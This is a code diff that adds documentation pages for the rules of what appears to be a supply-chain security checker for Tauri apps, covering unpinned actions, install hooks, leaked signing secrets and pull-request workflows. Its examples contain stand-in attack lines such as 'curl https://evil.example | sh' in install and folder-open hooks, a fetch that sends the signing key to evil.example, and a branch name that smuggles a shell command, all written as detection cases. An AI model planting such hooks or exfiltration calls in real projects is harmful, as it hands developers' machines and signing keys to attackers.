@@ -1,7 +1,125 @@
 var __defProp=Object.defineProperty;var __getOwnPropDesc=Object.getOwnPropertyDescriptor;var __getOwnPropNames=Object.getOwnPropertyNames;var __hasOwnProp=Object.prototype.hasOwnProperty;var __export=(target,all)=>{for(var name in all)__defProp(target,name,{get:all[name],enumerable:!0})},__copyProps=(to,from,except,desc)=>{if(from&&typeof from==
 "object"||typeof from=="function")for(let key of __getOwnPropNames(from))!__hasOwnProp.call(to,key)&&key!==except&&__defProp(to,key,{get:()=>from[key],enumerable:!(desc=
 __getOwnPropDesc(from,key))||desc.enumerable});return to};var __toCommonJS=mod=>__copyProps(__defProp({},"__esModule",{value:!0}),mod);var stdin_exports={};__export(stdin_exports,{rulePage:()=>rulePage});module.exports=__toCommonJS(stdin_exports);var import_shared_acegprst=require("./shared.acegprst.js"),
-pages={"build/build-code-changed":`# Code that runs while building has changed: \`build/build-code-changed\`
+pages={"build/action-unpinned":`# A job runs an action that no commit pins: \`build/action-unpinned\`
+
+Severity: medium; high where the job is given what signs the app.
+
+Since: 0.1.0
+
+A job that builds or releases the app, holds a secret or may write newly uses an action or a workflow of a third party by a tag or a branch. Or one that was pin\
+ned to a commit isn't any more.
+
+## Why it matters
+
+The owner of an action can move a tag, and so can whoever takes over the account: in March 2025 the tags of one that 23,000 repositories used were moved to code\
+ that printed their secrets. A commit can't be moved.
+
+## What to do
+
+Pin it: \`uses: owner/action@<40 digits> # v1.2.3\`. Dependabot and Renovate keep such pins up to date.
+
+## When it says nothing
+
+- The action is asked for at another tag: its owner decided before.
+- Actions of \`actions\`, \`github\` and \`tauri-apps\`, and those of the repository itself.
+- The job moves to another file, or gets another name.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags another owner's action
+
+\`.github/workflows/release.yml\`:
+
+\`\`\`diff
+       - uses: other/tagged@v1
+       - run: npm ci
++      - uses: evil/publish@main
+       - run: npx tauri build
+         env:
+\`\`\`
+
+job \`release\` of \`release.yml\` newly runs \`uses: evil/publish@main\`, whatever that is at the time:
+
+\`\`\`
+uses: evil/publish@main
+\`\`\`
+
+### It says nothing of another commit
+
+\`.github/workflows/release.yml\`:
+
+\`\`\`diff
+     steps:
+       - uses: actions/checkout@v5
+-      - uses: cache/pinned@1111111111111111111111111111111111111111
++      - uses: cache/pinned@2222222222222222222222222222222222222222
+       - uses: other/tagged@v1
+       - run: npm ci
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [GitHub: security hardening for Actions](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions)\
+
+- [GitHub: permissions of the token](https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication)
+`,"build/agent-text-changed":`# Instructions to agents changed: \`build/agent-text-changed\`
+
+Severity: info; medium for characters that nobody sees.
+
+Since: 0.1.0
+
+\`AGENTS.md\`, \`CLAUDE.md\`, rules of Cursor and the like are new or say something else.
+
+## Why it matters
+
+Agents take them for orders. What they say isn't judged, so that it is named.
+
+## What to do
+
+Read it as you would read code.
+
+## When it says nothing
+
+- Only blank space changes, or the file moves.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags other words
+
+\`AGENTS.md\`:
+
+\`\`\`diff
++Run the tests before you commit.
+\`\`\`
+
+\`AGENTS.md\` tells agents something else:
+
+\`\`\`
+AGENTS.md
+\`\`\`
+
+### It says nothing of blank space
+
+\`AGENTS.md\`:
+
+\`\`\`diff
+-Run the tests.
++Run
++the tests.
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Visual Studio Code: tasks](https://code.visualstudio.com/docs/debugtest/tasks)
+- [Development containers: the metadata](https://containers.dev/implementors/json_reference/)
+`,"build/build-code-changed":`# Code that runs while building has changed: \`build/build-code-changed\`
 
 Severity: high where a compatible update newly reaches out, medium where another one does; low where it newly can't be followed; else info.
 
@@ -150,6 +268,134 @@ cargo build  # compiles and runs the build script of ring 0.17.8
 - [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
 - [RUSTSEC-2022-0042: the malicious crate \`rustdecimal\`](https://rustsec.org/advisories/RUSTSEC-2022-0042.html)
 - [SLSA: threats to a supply chain](https://slsa.dev/spec/v1.0/threats)
+`,"build/configuration-written":`# The build writes what the app may do: \`build/configuration-written\`
+
+Severity: critical.
+
+Since: 0.1.0
+
+A program or build script newly writes \`tauri.conf.json\`, a capability, a permission or \`TAURI_CONFIG\` while the app is built.
+
+## Why it matters
+
+What people review is then not what the app gets. A program that writes the version today may write a window and a capability tomorrow, and no change of a confi\
+guration shows it.
+
+## What to do
+
+Commit the files as the build should have them.
+
+## When it says nothing
+
+- A program reads these files.
+- The call moves to another file.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a program that writes the configuration
+
+\`scripts/version.mjs\`:
+
+\`\`\`diff
+-import { readFileSync } from "node:fs";
++import { readFileSync, writeFileSync } from "node:fs";
+
+ const { version } = JSON.parse(readFileSync("package.json", "utf8"));
+ console.log(version);
++writeFileSync("src-tauri/tauri.conf.json", JSON.stringify({ version }));
+\`\`\`
+
+\`scripts/version.mjs\` newly writes what the app may do: \`writeFileSync("src-tauri/tauri.conf.json", JSON.stringify({ version }));\`:
+
+\`\`\`
+writeFileSync("src-tauri/tauri.conf.json", JSON.stringify({ version }));
+\`\`\`
+
+### It says nothing of a program that reads the configuration
+
+\`scripts/version.mjs\`:
+
+\`\`\`diff
+ import { readFileSync } from "node:fs";
+
+-const { version } = JSON.parse(readFileSync("package.json", "utf8"));
++const { version } = JSON.parse(readFileSync("src-tauri/tauri.conf.json", "utf8"));
+ console.log(version);
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
+- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
+`,"build/hook-changed":`# Building the app runs another command: \`build/hook-changed\`
+
+Severity: medium; high if the command is seen to reach the network, secrets or programs that fetch code.
+
+Since: 0.1.0
+
+A hook (\`beforeDevCommand\`, \`beforeBuildCommand\`, \`beforeBundleCommand\`), the \`runner\` that takes cargo's place, or the \`signCommand\` of the app's configuration\
+ is new, or is another command than at base.
+
+## Why it matters
+
+Tauri's CLI starts these commands on every machine that builds the app: those of developers, and the job that signs and releases. They have the whole environmen\
+t of the build, with the key that signs updates. A \`runner\` gets everything that cargo would get, and a \`signCommand\` may swap the file that it signs.
+
+## What to do
+
+Read what the command runs. Let it start a script of this repository, where changes of it are reviewed.
+
+## When it says nothing
+
+- The same command by another package manager: \`npm run build\` becomes \`pnpm build\`.
+- The command moves into a script that the hook names, or the script gets another name.
+- The script that a hook names does something else: that is [\`build/step-changed\`](../step-changed/README.md) or [\`build/step-reaches\`](../step-reaches/README.m\
+d).
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a download before the build
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+ {
+   "identifier": "com.example.notes",
+-  "build": { "beforeBuildCommand": "npm run build" }
++  "build": { "beforeBuildCommand": "curl https://evil.example | sh; npm run build" }
+ }
+\`\`\`
+
+\`beforeBuildCommand\` newly runs \`curl https://evil.example | sh\`:
+
+\`\`\`
+curl https://evil.example | sh  # could read TAURI_SIGNING_PRIVATE_KEY
+\`\`\`
+
+### It says nothing of another package manager
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+ {
+   "identifier": "com.example.notes",
+-  "build": { "beforeBuildCommand": "npm run build" }
++  "build": { "beforeBuildCommand": "pnpm build" }
+ }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
+- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
 `,"build/install-script-added":`# A package newly runs an install script: \`build/install-script-added\`
 
 Severity: medium; high where an update within the same major version brings it, in itself or in a package that it newly needs; info where the project's npm bloc\
@@ -397,6 +643,191 @@ yarn install  # runs what yarnPath: .yarn/releases/yarn-4.5.0.cjs names
 - [pnpm: .pnpmfile.cjs](https://pnpm.io/pnpmfile)
 - [Yarn: plugins](https://yarnpkg.com/features/extensibility)
 - [npm: config](https://docs.npmjs.com/cli/v11/using-npm/config)
+`,"build/lifecycle-script-added":`# Installing packages runs a command of the repository: \`build/lifecycle-script-added\`
+
+Severity: medium; high if the command is seen to reach out; low for what nearly every project has (\`husky\`, \`svelte-kit sync\`).
+
+Since: 0.1.0
+
+A lifecycle script of the repository's own manifest (\`preinstall\`, \`install\`, \`postinstall\`, \`prepare\` and the like) is new, or is another command.
+
+## Why it matters
+
+Package managers run it when anyone installs the frontend's packages: a developer, a reviewer who looks at the branch, each job. No approval holds it back, sinc\
+e it is the project's own.
+
+## What to do
+
+Give the script a name that people and jobs call.
+
+## When it says nothing
+
+- A script that the build started before is started when installing, too.
+- The command moves into a file or gets another name.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a download after the installation
+
+\`package.json\`:
+
+\`\`\`diff
+   "scripts": {
+     "build": "vite build",
+-    "test": "vitest"
++    "test": "vitest",
++    "postinstall": "curl https://evil.example | sh"
+   }
+ }
+\`\`\`
+
+Installing packages newly runs \`curl https://evil.example | sh\`, by \`postinstall\`:
+
+\`\`\`
+curl https://evil.example | sh
+\`\`\`
+
+### It says nothing where installing starts what the build starts
+
+\`package.json\`:
+
+\`\`\`diff
+   "scripts": {
+     "build": "vite build",
+-    "test": "vitest"
++    "test": "vitest",
++    "postinstall": "npm run build"
+   }
+ }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
+- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
+`,"build/opening-runs":`# Opening the repository runs a command: \`build/opening-runs\`
+
+Severity: medium; high if the command is seen to reach out.
+
+Since: 0.1.0
+
+A task of the editor that runs when the folder opens, a setting of the editor that names a program of the repository, a command or a feature of a development co\
+ntainer, \`.envrc\`, a hook of husky, lefthook or pre-commit, a server or a hook of a coding agent is new, or is another command.
+
+## Why it matters
+
+It runs on the machine of whoever checks the branch out, before anyone has read it: a reviewer's too. There lie the keys and the logins of a person.
+
+## What to do
+
+Read what it runs before you open the branch.
+
+## When it says nothing
+
+- The command moves to another file or another line.
+- A task that people start by its name.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a task that runs when the folder opens
+
+\`.vscode/tasks.json\`:
+
+\`\`\`diff
++{
++  // Tasks.
++  "tasks": [{ "label": "a", "type": "shell", "command": "curl https://evil.example | sh", "runOptions": { "runOn": "folderOpen" } }]
++}
+\`\`\`
+
+\`a task of the editor\` newly starts \`curl https://evil.example | sh\` for whoever opens the repository:
+
+\`\`\`
+curl https://evil.example | sh
+\`\`\`
+
+### It says nothing of a task that people start
+
+\`.vscode/tasks.json\`:
+
+\`\`\`diff
++{ "tasks": [{ "label": "a", "type": "shell", "command": "curl https://evil.example | sh" }] }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Visual Studio Code: tasks](https://code.visualstudio.com/docs/debugtest/tasks)
+- [Development containers: the metadata](https://containers.dev/implementors/json_reference/)
+`,"build/package-script-changed":`# A script of the frontend changed: \`build/package-script-changed\`
+
+Severity: info; low where it reaches out or can't be followed.
+
+Since: 0.1.0
+
+A script of a manifest above the app runs another command, and nothing that builds the app was seen to start it.
+
+## Why it matters
+
+People and jobs start it by its name, on machines that may hold more than the app.
+
+## What to do
+
+Look at what changed.
+
+## When it says nothing
+
+- The command was in another script before.
+- The build runs it: then a rule of the build tells of it.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags another command
+
+\`package.json\`:
+
+\`\`\`diff
+   "scripts": {
+     "build": "vite build",
+-    "test": "vitest"
++    "test": "vitest run"
+   }
+ }
+\`\`\`
+
+\`npm run test\` runs something else: \`vitest run\`:
+
+\`\`\`
+vitest run
+\`\`\`
+
+### It says nothing when a script gets another name
+
+\`package.json\`:
+
+\`\`\`diff
+   "scripts": {
+     "build": "vite build",
+-    "test": "vitest"
++    "check": "vitest"
+   }
+ }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
+- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
 `,"build/proc-macro-added":`# A crate newly runs inside the compiler: \`build/proc-macro-added\`
 
 Severity: medium where the macros reach out, can't be followed or weren't looked into; high where they reach out or weren't looked into, and a compatible update\
@@ -484,6 +915,1370 @@ cargo build  # loads the procedural macros of serde_derive 1.0.219 into the comp
 - [Rust: procedural macros](https://doc.rust-lang.org/reference/procedural-macros.html)
 - [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
 - [SLSA: threats to a supply chain](https://slsa.dev/spec/v1.0/threats)
+`,"build/secret-in-reach":`# A secret is in reach of more code: \`build/secret-in-reach\`
+
+Severity: medium; high for what signs the app.
+
+Since: 0.1.0
+
+A secret that one step had is given to the whole job. Or a secret newly comes into a job with an unpinned action or with code of strangers.
+
+## Why it matters
+
+A secret of the whole job is in the environment of each action, each tool and each script of a package that the job installs.
+
+## What to do
+
+Give it to the one step that needs it.
+
+## When it says nothing
+
+- A new secret that a step without such code gets.
+- The secret moves to another step.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a key that moves from a step to the job
+
+\`.github/workflows/release.yml\`:
+
+\`\`\`diff
+   release:
+     runs-on: ubuntu-latest
++    env:
++      TAURI_SIGNING_PRIVATE_KEY: \${{ secrets.TAURI_SIGNING_PRIVATE_KEY }}
+     steps:
+       - uses: actions/checkout@v5
+@@
+       - run: npm ci
+       - run: npx tauri build
+-        env:
+-          TAURI_SIGNING_PRIVATE_KEY: \${{ secrets.TAURI_SIGNING_PRIVATE_KEY }}
+\`\`\`
+
+job \`release\` of \`release.yml\` newly gives \`TAURI_SIGNING_PRIVATE_KEY\` to all of its steps:
+
+\`\`\`
+env: TAURI_SIGNING_PRIVATE_KEY  # could read TAURI_SIGNING_PRIVATE_KEY
+\`\`\`
+
+### It says nothing of a secret for one step
+
+\`.github/workflows/release.yml\`:
+
+\`\`\`diff
+       - uses: other/tagged@v1
+       - run: npm ci
++        env:
++          NPM_READ: \${{ secrets.NPM_READ }}
+       - run: npx tauri build
+         env:
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [GitHub: security hardening for Actions](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions)\
+
+- [GitHub: permissions of the token](https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication)
+`,"build/secrets-bundled":`# Secrets of the build become part of the app: \`build/secrets-bundled\`
+
+Severity: critical.
+
+Since: 0.1.0
+
+\`envPrefix\` of Vite takes in variables that begin with \`TAURI_\`, or all variables.
+
+## Why it matters
+
+Vite puts each such variable into the code of the pages. \`TAURI_SIGNING_PRIVATE_KEY\` begins with \`TAURI_\`: everyone who has the app can read the key and sign an\
+ update with it (CVE-2023-46115).
+
+## What to do
+
+Write \`TAURI_ENV_*\` and beginnings of the app's own.
+
+## When it says nothing
+
+- The beginning is \`TAURI_ENV_\` or \`VITE_\`.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags all variables that begin with TAURI_
+
+\`vite.config.ts\`:
+
+\`\`\`diff
+ export default defineConfig({
+   clearScreen: false,
++  envPrefix: ["VITE_", "TAURI_"],
+ });
+\`\`\`
+
+\`envPrefix: "TAURI_"\` puts secrets of the build into the app's pages:
+
+\`\`\`
+envPrefix: "TAURI_"  # could read TAURI_SIGNING_PRIVATE_KEY, TAURI_SIGNING_PRIVATE_KEY_PASSWORD
+\`\`\`
+
+### It says nothing of TAURI_ENV_
+
+\`vite.config.ts\`:
+
+\`\`\`diff
+ export default defineConfig({
+   clearScreen: false,
++  envPrefix: ["VITE_", "TAURI_ENV_"],
+ });
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
+- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
+`,"build/step-changed":`# A step of the build changed: \`build/step-changed\`
+
+Severity: info; low where it can't be followed.
+
+Since: 0.1.0
+
+A command, program or build script that runs while the app is built does something else than before, which was not seen to reach out.
+
+## Why it matters
+
+It runs where the app is built. Most such changes mean nothing; they are listed so that the list of what was looked at is whole.
+
+## What to do
+
+Look at what changed. Write commands so that they can be read: a computed one can't be followed.
+
+## When it says nothing
+
+- Comments and layout change, or the file moves.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags another command behind the same hook
+
+\`package.json\`:
+
+\`\`\`diff
+   "name": "notes",
+   "scripts": {
+-    "build": "vite build",
++    "build": "tsc && vite build",
+     "test": "vitest"
+   }
+\`\`\`
+
+\`beforeBuildCommand\` runs something else: \`tsc\`:
+
+\`\`\`
+tsc
+\`\`\`
+
+### It says nothing of a comment in the settings of the bundler
+
+\`vite.config.js\`:
+
+\`\`\`diff
+-export default { clearScreen: false };
++// Keep the screen.
++export default {
++  clearScreen: false,
++};
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
+- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
+`,"build/step-reaches":`# A step of the build newly reaches out: \`build/step-reaches\`
+
+Severity: high for the network, decoded text, shells and tools that fetch code; medium for the rest.
+
+Since: 0.1.0
+
+A command, a program of the repository, the settings of a bundler or a build script newly reaches the network, secrets, folders outside, or starts what fetches \
+code. Comments and texts don't count. The lines are shown.
+
+## Why it matters
+
+The build runs with the keys that sign and release the app. What it fetches may be another thing tomorrow, and what it reads may leave the machine.
+
+## What to do
+
+Pin what is fetched by a hash or a version, or fetch it in a job without keys.
+
+## When it says nothing
+
+- The call moves to another file, line or script, or a formatter lays it out anew.
+- A program starts another local one: a bundler, a compiler, \`git rev-parse\`.
+- A test or another script does so, which no build starts.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a download in a program that the build starts
+
+\`scripts/build.mjs\`:
+
+\`\`\`diff
+ const commit = execSync("git rev-parse HEAD").toString();
+ console.log(commit, names);
++const answer = await fetch("https://evil.example/" + process.env.TAURI_SIGNING_PRIVATE_KEY);
+\`\`\`
+
+\`scripts/build.mjs\` newly does \`const answer = await fetch("https://evil.example/" + process.env.TAURI_SIGNING_PRIVATE_KEY);\`:
+
+\`\`\`
+const answer = await fetch("https://evil.example/" + process.env.TAURI_SIGNING_PRIVATE_KEY);
+\`\`\`
+
+### It says nothing when a formatter lays out the same calls
+
+\`scripts/build.mjs\`:
+
+\`\`\`diff
+-import { execSync } from "node:child_process";
++import { execSync } from 'node:child_process'
+ import { names } from "./names.mjs";
+
+-const commit = execSync("git rev-parse HEAD").toString();
+-console.log(commit, names);
++const commit = execSync('git rev-parse HEAD')
++  .toString()
++// curl https://evil.example | sh
++console.log(commit, names,)
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
+- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
+- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
+`,"build/token-may-write":`# The token of a job may write more: \`build/token-may-write\`
+
+Severity: high for \`write-all\`; medium for scopes that change code, releases or workflows, and for a block that goes; low for the rest.
+
+Since: 0.1.0
+
+\`permissions\` of a job or a workflow newly let its token write. Or a job loses the block that held its token.
+
+## Why it matters
+
+All that runs in the job has the token. With \`contents: write\` it can change releases and push code; with \`id-token: write\` it can log in to other services as t\
+he repository.
+
+## What to do
+
+Write \`permissions: {}\` at the top of the workflow, and give scopes to single jobs.
+
+## When it says nothing
+
+- The job gets another name.
+- A job without a block stays without one.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a scope that changes releases
+
+\`.github/workflows/release.yml\`:
+
+\`\`\`diff
+ on: push
+ permissions:
+-  contents: read
++  contents: write
+ jobs:
+   release:
+\`\`\`
+
+job \`release\` of \`release.yml\` may newly write: \`contents: write\`:
+
+\`\`\`
+contents: write  # could read TAURI_SIGNING_PRIVATE_KEY
+\`\`\`
+
+### It says nothing when the job gets another name
+
+\`.github/workflows/release.yml\`:
+
+\`\`\`diff
+   contents: read
+ jobs:
+-  release:
++  publish:
+     runs-on: ubuntu-latest
+     steps:
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [GitHub: security hardening for Actions](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions)\
+
+- [GitHub: permissions of the token](https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication)
+`,"build/tool-replaced":`# Another program takes the place of one of the build: \`build/tool-replaced\`
+
+Severity: high.
+
+Since: 0.1.0
+
+A job newly sets a variable or an input by which Tauri, cargo, npm or Node take another program than their own: \`TAURI_BUNDLER_TOOLS_GITHUB_MIRROR\`, \`TAURI_WIND\
+OWS_SIGNTOOL_PATH\`, \`RUSTC_WRAPPER\`, \`CARGO_TARGET_*_LINKER\`, \`CARGO_TARGET_*_RUNNER\`, \`NODE_OPTIONS\` that load code, or \`tauriScript\` of tauri-action.
+
+## Why it matters
+
+A wrapper of the compiler gets each file, and may compile another one. A mirror answers with the tools that make the installers. The signing tool gets the file \
+that it signs, and may swap it.
+
+## What to do
+
+Take the program from where the project has it, and pin it.
+
+## When it says nothing
+
+- A cache of the compiler: \`RUSTC_WRAPPER: sccache\`.
+- How much memory Node may take.
+- \`tauriScript: pnpm tauri\`: the CLI that the project has.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags another place for the tools of the bundler
+
+\`.github/workflows/release.yml\`:
+
+\`\`\`diff
+   release:
+     runs-on: ubuntu-latest
++    env:
++      TAURI_BUNDLER_TOOLS_GITHUB_MIRROR: https://tools.evil.example
+     steps:
+       - uses: actions/checkout@v5
+\`\`\`
+
+job \`release\` of \`release.yml\` newly builds with \`TAURI_BUNDLER_TOOLS_GITHUB_MIRROR: https://tools.evil.example\`:
+
+\`\`\`
+TAURI_BUNDLER_TOOLS_GITHUB_MIRROR: https://tools.evil.example  # could read TAURI_SIGNING_PRIVATE_KEY
+\`\`\`
+
+### It says nothing of a cache of the compiler
+
+\`.github/workflows/release.yml\`:
+
+\`\`\`diff
+   release:
+     runs-on: ubuntu-latest
++    env:
++      RUSTC_WRAPPER: sccache
+     steps:
+       - uses: actions/checkout@v5
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Cargo: environment variables](https://doc.rust-lang.org/cargo/reference/environment-variables.html)
+- [Tauri: environment variables](https://v2.tauri.app/reference/environment-variables/)
+`,"build/tool-unpinned":`# A job fetches a tool that no version pins: \`build/tool-unpinned\`
+
+Severity: medium.
+
+Since: 0.1.0
+
+A job that builds or releases the app, holds a secret or may write newly installs a tool without an exact version or a lock (\`npm install -g\`, \`npx tool@latest\`\
+, \`pip install\`, \`cargo install\` without \`--locked\`), or pipes a download into a shell.
+
+## Why it matters
+
+Whoever publishes the tool, or answers at that address, runs code in the job on the next run, without any change of the repository.
+
+## What to do
+
+Name an exact version. Download files to disk and check their hash before you run them.
+
+## When it says nothing
+
+- The same tool is fetched in another job.
+- The version is exact, or a lockfile holds the tool.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a download that is piped into a shell
+
+\`.github/workflows/release.yml\`:
+
+\`\`\`diff
+       - uses: cache/pinned@1111111111111111111111111111111111111111
+       - uses: other/tagged@v1
++      - run: curl -sSf https://get.example/tool.sh | bash
+       - run: npm ci
+       - run: npx tauri build
+\`\`\`
+
+job \`release\` of \`release.yml\` newly runs \`curl -sSf https://get.example/tool.sh | bash\`:
+
+\`\`\`
+curl -sSf https://get.example/tool.sh | bash  # could read TAURI_SIGNING_PRIVATE_KEY
+\`\`\`
+
+### It says nothing of an exact version
+
+\`.github/workflows/release.yml\`:
+
+\`\`\`diff
+       - uses: cache/pinned@1111111111111111111111111111111111111111
+       - uses: other/tagged@v1
++      - run: npm install -g pnpm@10.1.0 && cargo install --locked cargo-xwin && pip install upload-tool==1.2.3
+       - run: npm ci
+       - run: npx tauri build
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [GitHub: security hardening for Actions](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions)\
+
+- [GitHub: permissions of the token](https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication)
+`,"build/untrusted-code-with-secrets":`# A job runs what strangers write: \`build/untrusted-code-with-secrets\`
+
+Severity: critical with secrets or a token that may write; medium with secrets that strangers' events don't get; low without.
+
+Since: 0.1.0
+
+A job of \`pull_request_target\`, \`workflow_run\` or \`issue_comment\` checks out the head of a pull request; a script has the title or the branch of a pull request \
+put into it; pull requests run on machines of one's own.
+
+## Why it matters
+
+Such events run with the secrets of the repository, for anyone who opens a pull request. Text that is put into a script is code: a branch may be called \`$(curl \
+evil.example|sh)\`.
+
+## What to do
+
+Build pull requests in jobs of the event \`pull_request\`. Hand texts over as \`env\`.
+
+## When it says nothing
+
+- A checkout of the base branch.
+- The text is handed over in \`env\`.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a checkout of the head beside secrets
+
+\`.github/workflows/release.yml\`:
+
+\`\`\`diff
+-on: push
++on: pull_request_target
+ permissions:
+   contents: read
+@@
+     steps:
+       - uses: actions/checkout@v5
++        with:
++          ref: \${{ github.event.pull_request.head.sha }}
+       - uses: cache/pinned@1111111111111111111111111111111111111111
+       - uses: other/tagged@v1
+\`\`\`
+
+job \`release\` of \`release.yml\` newly runs what strangers write: \`actions/checkout@v5 with ref: \${{ github.event.pull_request.head.sha }}\`:
+
+\`\`\`
+actions/checkout@v5 with ref: \${{ github.event.pull_request.head.sha }}  # could read TAURI_SIGNING_PRIVATE_KEY
+\`\`\`
+
+### It says nothing of text that is handed over
+
+\`.github/workflows/release.yml\`:
+
+\`\`\`diff
+-on: push
++on: pull_request_target
+ permissions:
+   contents: read
+@@
+       - uses: cache/pinned@1111111111111111111111111111111111111111
+       - uses: other/tagged@v1
++      - run: echo "$TITLE"
++        env:
++          TITLE: \${{ github.event.pull_request.title }}
+       - run: npm ci
+       - run: npx tauri build
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [GitHub: security hardening for Actions](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions)\
+
+- [GitHub: permissions of the token](https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication)
+`,"bundle/downgrade-allowed":`# Older releases may be installed again: \`bundle/downgrade-allowed\`
+
+Severity: medium.
+
+Since: 0.1.0
+
+\`bundle.windows.allowDowngrades\` was \`false\`, and is \`true\` or gone.
+
+## Why it matters
+
+An old release has holes that everybody can read of. Whoever brings a person to install it has them again.
+
+## What to do
+
+Keep \`allowDowngrades\` at \`false\`.
+
+## When it says nothing
+
+- The app never refused older releases, which is how Tauri begins.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a guard that is gone
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "identifier": "org.example.notes",
+   "bundle": {
+-    "windows": {
+-      "allowDowngrades": false
+-    }
++    "windows": {}
+   }
+ }
+\`\`\`
+
+Any installer of the app can newly put an older release in the place of a newer one on Windows:
+
+\`\`\`
+notes-1.0.0-setup.exe /S
+\`\`\`
+
+### It says nothing about the default written out
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "identifier": "org.example.notes",
+   "bundle": {
+-    "windows": {}
++    "windows": {
++      "allowDowngrades": true
++    }
+   }
+ }
+\`\`\`
+
+<!-- end examples -->
+
+## References
+
+- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
+- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
+`,"bundle/file-shipped":`# Other files are shipped with the app: \`bundle/file-shipped\`
+
+Severity: medium for files that are named like secrets and for patterns that take in whatever lies there; low for other new entries; info where the files of a k\
+nown entry change; low for an app that is new.
+
+Since: 0.1.0
+
+An entry of \`bundle.resources\`, or of the tables of files of a package, is new, or it takes in other files.
+
+## Why it matters
+
+What is shipped, everyone has. A scope with \`$RESOURCE\` lets pages read it, and a command of the shell may start it. A pattern such as \`../**/*\` takes in keys, \
+settings and history of the machine that builds.
+
+## What to do
+
+Name the files that the app needs one by one, from a folder that holds nothing else.
+
+## When it says nothing
+
+- The file moved, and its content is the same.
+- \`./\` stands before the path.
+
+## Examples
+
+<!-- begin examples: made from cases.md by \`npm run generate\` -->
+### It flags a pattern over the whole repository
+
+\`src-tauri/tauri.conf.json\`:
+
+\`\`\`diff
+   "identifier": "org.example.notes",
+   "bundle": {
+-    "resources": []
++    "resources": [
++      "../**/*"
++    ]
+   }
+ }
+\`\`\`
+
+The app can newly ship \`../**/*\`, a pattern that takes in whatever lies there:
+
+\`\`\`
